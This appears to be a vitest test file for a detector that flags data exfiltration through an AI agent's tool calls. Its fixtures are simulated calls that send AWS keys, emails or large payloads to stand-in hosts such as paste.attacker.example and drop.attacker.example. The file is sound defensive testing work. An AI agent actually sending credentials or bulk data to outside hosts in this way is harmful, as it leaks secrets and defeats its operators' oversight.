import { describe, expect, it } from 'vitest';
import { parsePolicy } from './policy.ts';
import { Session, routine, rulesOf, toolCall, verdict } from './testing.ts';

const AFTER = 120 * 30;
const policy = parsePolicy({ internal_destinations: ['*.acme.example'] });
const email = verdict('sensitive', 'email', 'tool_arguments', { score: 0.9 });
const awsKey = verdict('sensitive', 'aws_access_key', 'tool_arguments', { score: 0.99, severity: 'critical' });

describe('exfiltration through tools', () => {
  it('flags sensitive data in the arguments of a call to an external destination', () => {
    const s = new Session({ policy });
    s.feedAll(routine());
    const found = s.feed(
      toolCall(AFTER, 'http_get', 'read', 'paste.attacker.example', { detections: [awsKey, email] }),
    );
    const f = found.find((x) => x.rule === 'exfiltration.sensitive_arguments')!;
    expect(f).toBeDefined();
    expect(f.evidence[0]).toBe(
      'arguments of tool http_get carry aws_access_key, email; the call goes to external destination paste.attacker.example',
    );
    expect(f.mitre_atlas).toEqual(['AML.T0086', 'AML.T0057']);
    expect(f.score).toBeCloseTo(0.99);
  });

  it('flags sensitive arguments to an egress tool even when its host is internal', () => {
    const s = new Session({ policy });
    const found = s.feed(toolCall(0, 'upload_file', 'write', 'files.acme.example', { detections: [email] }));
    expect(rulesOf(found)).toContain('exfiltration.sensitive_arguments');
  });

  it('does not flag sensitive arguments to an internal, non-egress tool, or weak verdicts', () => {
    const s = new Session({ policy });
    s.feedAll(routine());
    expect(
      rulesOf(s.feed(toolCall(AFTER, 'lookup_invoice', 'read', 'billing.acme.example', { detections: [email] }))),
    ).not.toContain('exfiltration.sensitive_arguments');
    expect(
      rulesOf(
        s.feed(
          toolCall(AFTER + 30, 'http_get', 'read', 'paste.attacker.example', {
            detections: [verdict('sensitive', 'email', 'tool_arguments', { score: 0.3 })],
          }),
        ),
      ),
    ).not.toContain('exfiltration.sensitive_arguments');
  });

  it('flags a large payload to an external destination the agent never sent to, after learning', () => {
    const s = new Session({ policy });
    s.feedAll(routine());
    const found = s.feed(toolCall(AFTER, 'http_post', 'write', 'drop.attacker.example', { input_tokens: 6000 }));
    expect(rulesOf(found)).toContain('exfiltration.new_destination_large_payload');
    const f = found.find((x) => x.rule === 'exfiltration.new_destination_large_payload')!;
    expect(f.evidence[0]).toMatch(/sent about 6000 tokens to drop\.attacker\.example/);
  });

  it('sizes a payload from the captured arguments when the call has no token count', () => {
    const s = new Session({ policy });
    s.feedAll(routine());
    const args = 'x'.repeat(12_000);
    const e = toolCall(AFTER, 'http_post', 'write', 'drop.attacker.example');
    const found = s.feed({ ...e, content: { ...e.content, tool_arguments: args } });
    expect(rulesOf(found)).toContain('exfiltration.new_destination_large_payload');
  });

  it('does not flag a small payload, a known destination, an internal one, or anything while learning', () => {
    const s = new Session({ policy });
    s.feedAll(routine());
    const quiet = [
      toolCall(AFTER, 'http_post', 'write', 'drop.attacker.example', { input_tokens: 200 }),
      toolCall(AFTER + 30, 'send_email', 'egress', 'smtp.acme.example', { input_tokens: 9000 }),
      toolCall(AFTER + 60, 'http_post', 'write', 'new.acme.example', { input_tokens: 9000 }),
    ];
    for (const e of quiet) expect(rulesOf(s.feed(e))).not.toContain('exfiltration.new_destination_large_payload');

    const early = new Session({ policy });
    early.feedAll(routine(30));
    const e = toolCall(30 * 30, 'http_post', 'write', 'drop.attacker.example', { input_tokens: 9000 });
    expect(rulesOf(early.feed(e))).not.toContain('exfiltration.new_destination_large_payload');
  });
});
